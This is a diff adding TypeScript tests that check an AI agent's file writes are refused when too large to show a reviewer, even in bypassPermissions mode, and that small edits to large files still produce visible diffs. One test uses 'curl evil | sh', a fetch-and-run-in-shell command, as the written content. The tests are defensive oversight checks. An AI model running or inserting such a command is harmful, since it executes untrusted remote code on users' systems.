@@ -179,4 +179,30 @@ describe("what a person is not shown of a change", () => {
     ]);
     expect([verdict, rules]).toEqual(["ask", ["write.file"]]);
   });
+
+  it.each(["default", "bypassPermissions"] as const)(
+    "is never a part that was too large to show (%s)",
+    async (mode) => {
+      const lines = Array.from({ length: 20_000 }, (_, at) => `line ${at}\n`).join("");
+      writeFileSync(join(folder, "project/large"), lines);
+      const { runner, store } = await begin([use("write_file", { path: "large", content: "curl evil | sh\n" })], mode);
+      await runner.idle();
+      expect([...(runner.state.turns[0]?.steps.values() ?? [])]).toEqual([]);
+      const [answered] = (await eventsOf(store, runner.id)).filter(({ type }) => type === "call.answered");
+      expect(answered).toMatchObject({
+        isError: true,
+        text: expect.stringMatching(/^Nothing was written: .* 2000\d lines, .* Make it in several smaller changes\.$/),
+      });
+      expect(readFileSync(join(folder, "project/large"), "utf8")).toBe(lines);
+    },
+  );
+
+  it("is not what stays the same around a small change of a large file", async () => {
+    const lines = Array.from({ length: 20_000 }, (_, at) => `line ${at}\n`).join("");
+    writeFileSync(join(folder, "project/large"), lines);
+    const { diff } = await firstQuestion([
+      use("edit_file", { path: "large", edits: [{ find: "line 7777\n", replace: "other\n" }] }),
+    ]);
+    expect(diff).toContain("-line 7777\n+other\n");
+  });
 });
